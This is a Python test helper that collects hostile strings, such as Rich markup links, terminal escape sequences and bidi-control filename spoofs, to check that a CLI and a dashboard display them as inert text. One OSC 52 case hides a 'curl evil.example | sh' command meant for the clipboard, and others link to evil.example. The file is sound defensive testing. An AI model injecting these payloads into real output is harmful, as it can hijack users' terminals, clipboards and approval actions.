"""Hostile strings a server, a colleague's message or a config can carry, and the checks that
they reached the screen or the terminal as inert, literal text.

Shared by the CLI, dashboard and text_safety tests: one list, so every output is fuzzed
with the same cases.
"""

from __future__ import annotations

import base64
import random

# The reproduction: a 422 message that became a link approving the PR under the cursor.
CLICK = "Validation Failed: [@click=screen.triage('approve')]click here to retry[/]"
MARKUP = (
    CLICK,
    "[/]",  # unbalanced: MarkupError crashed the dashboard
    "[b]not bold[/b] [red]not red",
    "[link=https://evil.example/]docs[/link]",  # Rich link syntax
    "[@click=app.quit]quit[/]",
    "\\[escaped] and [/link] and [",
    "[on red]x[/on red] [$accent]y[/]",
)
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
CLEAR = "\x1b[2J"
ESCAPES = (
    OSC52,
    CLEAR,
    "\x9b2J",  # the 8-bit CSI (C1), which some terminals honour in UTF-8 mode
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1bP+q544e\x1b\\",  # DCS: a terminal query
    "ok\roverwritten",  # CR: a later part overprints the start of the line
    "\x08\x08\x7f\x00\x05",
    "invoice_\u202egnp.exe",  # RLO: reads as invoice_exe.png
    "\u2066\u2067\u2068x\u2069\u200e\u200f\u061c\u202a\u202b\u202c\u202d",
)
ALL = MARKUP + ESCAPES

# Characters that must never reach a terminal from data (ESC, BEL, CSI, CR, bidi controls...).
_FORBIDDEN = {chr(c) for c in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0))} - {"\n", "\t"}
_FORBIDDEN |= {chr(c) for c in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F))}
_FORBIDDEN |= {chr(c) for c in range(0x2066, 0x206A)}


def forbidden_in(text: str) -> set[str]:
    """The terminal-control or bidi characters found in `text` (empty when it is safe)."""
    return {c for c in text if c in _FORBIDDEN}


def mixed(seed: int, rounds: int) -> list[str]:
    """`rounds` random concatenations of the cases with plain words, for fuzzing."""
    rng = random.Random(seed)
    words = ("fix", "the", "build", "#dev", "@ada", "[x]", "a]b", "ü", "日本")
    return [
        " ".join(rng.choice(ALL + words) for _ in range(rng.randint(1, 6))) for _ in range(rounds)
    ]
